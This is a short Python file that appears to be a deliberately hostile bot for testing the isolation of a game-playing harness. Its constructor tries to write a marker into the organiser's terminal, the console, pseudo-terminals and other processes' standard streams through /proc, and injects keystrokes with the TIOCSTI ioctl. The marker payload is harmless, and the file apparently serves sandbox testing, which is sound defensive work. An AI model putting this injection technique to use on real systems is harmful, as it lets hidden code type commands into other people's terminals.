"""Attack: write into the organiser's terminal: /dev/tty, every terminal and every stdout or
stderr of another process it can open through /proc, and TIOCSTI keystrokes; then play on."""

import fcntl
import os
import sys
import termios

GAMES = "*"
MARKER = b"HOSTILE-BOT-WAS-HERE"


def shout() -> None:
    targets = ["/dev/tty", "/dev/console", *(f"/dev/pts/{n}" for n in range(8))]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            targets += [f"/proc/{pid}/fd/{fd}" for fd in (0, 1, 2)]
    for target in targets:
        try:
            fd = os.open(target, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError as error:
            print(f"cannot open {target}: {error.strerror}", file=sys.stderr)
            continue
        try:
            os.write(fd, MARKER + b"\n")
            print(f"wrote to {target}", file=sys.stderr)
            for byte in MARKER:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        except OSError as error:
            print(f"cannot write to {target}: {error.strerror}", file=sys.stderr)
        finally:
            os.close(fd)


class Bot:
    def __init__(self, game, seat, rng):
        shout()

    def act(self, turn):
        return turn.legal[0]
